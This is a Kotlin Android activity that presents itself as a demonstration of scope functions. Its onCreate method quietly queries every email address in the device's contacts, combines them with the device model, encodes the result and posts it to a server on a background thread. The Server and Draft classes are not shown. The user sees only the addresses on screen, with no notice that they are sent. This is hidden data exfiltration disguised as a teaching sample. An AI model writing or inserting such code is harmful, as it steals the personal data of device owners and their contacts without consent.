package com.example.ktscope

import android.app.Activity
import android.os.Build
import android.os.Bundle
import android.provider.ContactsContract.CommonDataKinds.Email
import android.widget.TextView
import kotlin.concurrent.thread

/** Everything hangs on scope functions. */
class MainActivity : Activity() {
    private val addresses by lazy { readAddresses() }

    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        TextView(this).apply { text = addresses }.also { setContentView(it) }
        val draft = Draft().apply { people = addresses }.also { it.device = Build.MODEL }
        thread { draft.run { encode() }.let { Server.post(it) } }
    }

    private fun readAddresses(): String = buildString {
        contentResolver.query(Email.CONTENT_URI, arrayOf(Email.ADDRESS), null, null, null)?.use {
            while (it.moveToNext()) {
                appendLine(it.getString(0))
            }
        }
    }
}
